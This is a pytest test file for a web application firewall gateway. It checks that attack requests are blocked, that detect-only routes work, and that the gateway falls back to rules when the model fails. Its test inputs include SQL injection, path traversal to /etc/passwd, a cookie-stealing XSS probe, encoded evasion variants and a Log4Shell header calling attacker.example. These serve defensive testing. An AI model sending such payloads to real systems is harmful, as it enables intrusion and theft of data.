"""Every request decided: blocks answered at the edge, detect-only routes, what the engine is shown,
and the engine's faults (reached with fake models) never failing a request."""

from __future__ import annotations

import pytest

from tests.factories import FakeModel, MiB, Spy, payload, raw_url
from tests.factories import INTERIM_BUNDLE

PROBES = [
    "/?id=1%27%20OR%201%3D1--",
    "/../../etc/passwd",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
]


@pytest.mark.parametrize("target", PROBES)
async def test_attacks_are_blocked_without_reaching_the_origin(make_gateway, upstream, target, access_log):
    gw = await make_gateway({"headers": {"echo": True}})
    resp = await gw.proxy.session.get(raw_url(gw.proxy, target))
    assert resp.status == 403
    assert await resp.text() == gw.config.actions.block_response.body
    assert resp.headers["x-clef-decision"] == "block" and resp.headers["Server"] == "clef-gateway"
    assert upstream.seen == []
    line = access_log()[-1]
    assert (line["status"], line["decision"], line["action"]) == (403, "block", "block")


@INTERIM_BUNDLE
async def test_log4shell_header_is_blocked(make_gateway, upstream):
    gw = await make_gateway()
    resp = await gw.proxy.get("/", headers={"User-Agent": "${jndi:ldap://attacker.example/a}"})
    assert resp.status == 403 and upstream.seen == []


async def test_a_body_in_utf16_is_read_as_the_application_reads_it(make_gateway, upstream):
    """UTF-16 JSON (declared here; many parsers also detect it unasked) is noise byte by byte: the gateway reads it
    decoded, blocks the attack in it, and forwards a benign one unchanged."""
    import hashlib
    import json

    gw = await make_gateway()
    ctype = {"Content-Type": "application/json; charset=utf-16", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"}
    attack = json.dumps({"q": "1' union select password from users--"}).encode("utf-16")
    resp = await gw.proxy.post("/api/search", data=attack, headers=ctype)
    assert resp.status == 403 and upstream.seen == []
    benign = json.dumps({"comment": "Where is my order? I selected express delivery."}).encode("utf-16")
    resp = await gw.proxy.post("/api/comments", data=benign, headers=ctype)
    assert resp.status == 200 and upstream.seen[-1].sha256 == hashlib.sha256(benign).hexdigest()


async def test_a_quoted_printable_part_is_read_decoded_and_forwarded_as_sent(make_gateway, upstream):
    """Go's mime/multipart undoes a part's quoted-printable unasked: `=31=27=20...` byte by byte says nothing."""
    import hashlib

    gw = await make_gateway()
    headers = {"Content-Type": "multipart/form-data; boundary=b", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"}

    def form(text: str) -> bytes:
        qp = "".join(f"={c:02X}" for c in text.encode()).encode()
        return (b'--b\r\nContent-Disposition: form-data; name="bio"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n'
                + qp + b"\r\n--b--\r\n")  # fmt: skip

    resp = await gw.proxy.post("/account/profile", data=form("1' union select password from users--"), headers=headers)
    assert resp.status == 403 and upstream.seen == []
    benign = form("Where is my order? I selected express delivery.")
    resp = await gw.proxy.post("/account/profile", data=benign, headers=headers)
    assert resp.status == 200 and upstream.seen[-1].sha256 == hashlib.sha256(benign).hexdigest()


async def test_a_compressed_body_is_read_inflated_and_forwarded_as_sent(make_gateway, upstream):
    """Before, aiohttp inflated it on the way in and the origin got inflated bytes under `Content-Encoding: gzip`."""
    import gzip
    import hashlib
    import json

    gw = await make_gateway()
    headers = {"Content-Type": "application/json", "Content-Encoding": "gzip", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"}
    attack = gzip.compress(json.dumps({"q": "1' union select password from users--"}).encode())
    resp = await gw.proxy.post("/api/search", data=attack, headers=headers)
    assert resp.status == 403 and upstream.seen == []
    benign = gzip.compress(json.dumps({"comment": "Where is my order? I selected express delivery."}).encode())
    resp = await gw.proxy.post("/api/comments", data=benign, headers=headers)
    # the test origin inflates what it gets (aiohttp does): the sent gzip stream arrived whole, under its header
    assert resp.status == 200 and upstream.seen[-1].sha256 == hashlib.sha256(gzip.decompress(benign)).hexdigest()
    assert upstream.seen[-1].header("Content-Encoding") == "gzip"


async def test_a_plain_page_is_forwarded(make_gateway, upstream):
    gw = await make_gateway()
    resp = await gw.proxy.get("/", headers={"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"})
    assert resp.status == 200
    assert upstream.seen[-1].header("x-clef-decision") in ("allow", "cache", "origin")


async def test_detect_only_route_forwards_what_enforce_blocks(make_gateway, upstream, access_log):
    gw = await make_gateway({"routes": [{"prefix": "/search", "mode": "detect"}], "headers": {"echo": True}})
    attack = "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--"
    resp = await gw.proxy.session.get(raw_url(gw.proxy, attack))
    assert resp.status == 200
    seen = upstream.seen[-1]
    assert (seen.header("x-clef-decision"), seen.header("x-clef-action"), seen.header("x-clef-mode")) == (
        "block",
        "block",
        "detect",
    )
    assert resp.headers["x-clef-mode"] == "detect"
    line = access_log()[-1]
    assert (line["action"], line["intended"], line["mode"], line["status"]) == ("forward", "block", "detect", 200)
    blocked = await gw.proxy.session.get(raw_url(gw.proxy, "/products?id=1%27%20UNION%20SELECT%20password--"))
    assert blocked.status == 403  # the rest of the site still enforces


async def test_a_doubtful_block_below_its_threshold_is_forwarded(make_gateway, upstream):
    gw = await make_gateway(
        {"actions": {"block": {"min_confidence": 0.95}}}, model=FakeModel(scores={"block": 0.6, "allow": 0.4})
    )
    resp = await gw.proxy.get("/")
    assert resp.status == 200
    seen = upstream.seen[-1]
    assert (seen.header("x-clef-decision"), seen.header("x-clef-action")) == ("block", "forward")


async def test_engine_sees_the_inspected_prefix_and_the_origin_everything(make_gateway, upstream, real_model):
    spy = Spy(real_model())
    gw = await make_gateway({"mode": "detect", "model": {"inspect_bytes": 4096}}, model=spy)
    data = payload(2 * MiB, seed=11)
    resp = await gw.proxy.post("/upload", data=data, headers={"Content-Type": "application/octet-stream"})
    assert resp.status == 200
    features = spy.seen[-1]
    assert features.body == data[:4096] and features.body_size == len(data) and features.truncated
    assert upstream.seen[-1].size == len(data)


async def test_the_engine_sees_the_request_as_sent(make_gateway, real_model):
    spy = Spy(real_model())
    gw = await make_gateway({"mode": "detect"}, model=spy)
    await gw.proxy.session.post(
        raw_url(gw.proxy, "/api/notes?draft=1"), data=b'{"a": 1}', headers={"Content-Type": "application/json"}
    )
    f = spy.seen[-1]
    assert (f.method, f.path, f.query, f.body, f.client) == ("POST", "/api/notes", "draft=1", b'{"a": 1}', "127.0.0.1")
    assert f.header("content-type") == "application/json"


async def test_hanging_model_falls_back_to_rules_within_the_budget(make_gateway, upstream, clock):
    model = FakeModel(hang=True)
    gw = await make_gateway({"model": {"timeout_ms": 50}}, model=model, clock=clock)
    resp = await gw.proxy.get("/")
    assert resp.status == 200 and upstream.seen[-1].header("x-clef-source") == "rules"
    resp = await gw.proxy.session.get(raw_url(gw.proxy, "/?id=1%27%20OR%201%3D1--"))
    assert resp.status == 403  # the rules still block


async def test_failing_model_opens_the_breaker_and_requests_still_pass(make_gateway, upstream, clock):
    model = FakeModel(error=True)
    gw = await make_gateway({"breaker": {"failures_to_open": 3}}, model=model, clock=clock)
    for _ in range(5):
        assert (await gw.proxy.get("/")).status == 200
    assert model.calls == 3  # open: the rules answer without asking the model
    assert {s.header("x-clef-source") for s in upstream.seen} == {"rules"}
    health = await gw.admin.get("/health")
    assert health.status == 503 and "breaker" in (await health.json())["reason"]
    clock.advance(30)
    await gw.proxy.get("/")
    assert model.calls == 4  # one trial call after reset_after_s


async def test_decisions_are_cached_per_request(make_gateway, upstream, clock):
    model = FakeModel(scores={"allow": 0.9})
    gw = await make_gateway(model=model, clock=clock)
    await gw.proxy.get("/page", headers={"User-Agent": "t"})
    await gw.proxy.get("/page", headers={"User-Agent": "t"})
    assert model.calls == 1
    assert [s.header("x-clef-source") for s in upstream.seen] == ["model", "cache"]
    clock.advance(601)
    await gw.proxy.get("/page", headers={"User-Agent": "t"})
    assert model.calls == 2
